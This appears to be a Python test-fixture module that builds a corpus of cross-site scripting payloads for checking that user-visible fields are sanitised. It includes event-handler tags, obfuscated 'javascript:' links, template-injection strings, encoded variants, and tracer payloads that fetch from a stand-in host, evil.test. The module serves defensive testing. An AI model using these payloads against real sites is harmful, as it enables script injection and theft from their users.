"""Ways to make a page run or fetch something, for every field that a person sees (S8)."""

HOOKS_AND_TAGS = [
    [
        "onload",
        "onerror",
        "onclick",
        "onmouseover",
        "onfocus",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
    ],
    [
        "img",
        "svg",
        "body",
        "iframe",
        "video",
        "details",
        "input",
        "marquee",
        "object",
        "embed",
        "a",
        "button",
        "select",
        "math",
    ],
]


def corpus() -> list[str]:
    """200 and more ways to make a page run or fetch something."""
    hooks, tags = HOOKS_AND_TAGS
    made = [f"<{tag} src=x {hook}=window.hit=1>" for tag in tags for hook in hooks]
    schemes = [
        "javascript",
        "vbscript",
        "data:text/html,",
        "JaVaScRiPt",
        "java\tscript",
        "\x01javascript",
    ]
    made += [f"[{i}]({s}:window.hit=1)" for i, s in enumerate(schemes)]
    made += [f"<a href='{s}:window.hit=1'>{i}</a>" for i, s in enumerate(schemes)]
    for tag in ("script", "iframe", "style", "object", "form", "base", "meta", "link", "template"):
        made += [
            f"<{tag}>window.hit=1</{tag}>",
            f"<{tag} src=http://evil.test/{tag} href=http://evil.test/{tag}>",
            f"```\n<{tag}>window.hit=1</{tag}>\n```",
            f"| a |\n|---|\n| <{tag} data=http://evil.test/{tag}> |",
            f"> ![{tag}](http://evil.test/{tag}.png)",
            f"- ![{tag}][1]\n\n[1]: http://evil.test/{tag}.png",
            f"**<{tag} onload=window.hit=1>**",
            f"<svg><{tag} onload=window.hit=1></svg>",
        ]
    made += [
        '[x](https://a.test "onmouseover=window.hit=1")',
        "[x](https://a.test' onclick='window.hit=1)",
        "{{constructor.constructor('window.hit=1')()}}",
        "${window.hit=1}",
        "</textarea><script>window.hit=1</script>",
        "<math><mtext><img src=x onerror=window.hit=1>",
        "<x style=background:url(http://evil.test/a)>",
        "&#60;img src=x onerror=window.hit=1&#62;",
        "%3Cscript%3Ewindow.hit=1%3C/script%3E",
        "\u202e<script>window.hit=1</script>",
    ]
    return [text for text in made if all(c in "\n\t" or c >= " " for c in text)]


def marked(place: str) -> str:
    """An attack that says where it was put, by the address it would fetch; fits narrow fields."""
    return f"\"'><img src=//evil.test/{place} onerror=hit=1>"


def marked_letter(place: str) -> str:
    """The same where only the letters of an e-mail address are let through."""
    return f"'/{place}/onfocus=hit=1/'@evil.test"


# for a field of eight characters, and for addresses that are followed
TINY = "<kefu-x>"
SCRIPT_ADDRESSES = [
    "javascript:hit=1",
    "JaVaScRiPt:hit=1",
    "\tjavascript:hit=1",
    "java\nscript:hit=1",
    "data:text/html,<script>parent.hit=1</script>",
    "vbscript:hit=1",
    "//evil.test/followed",
    "\\\\evil.test/followed",
]
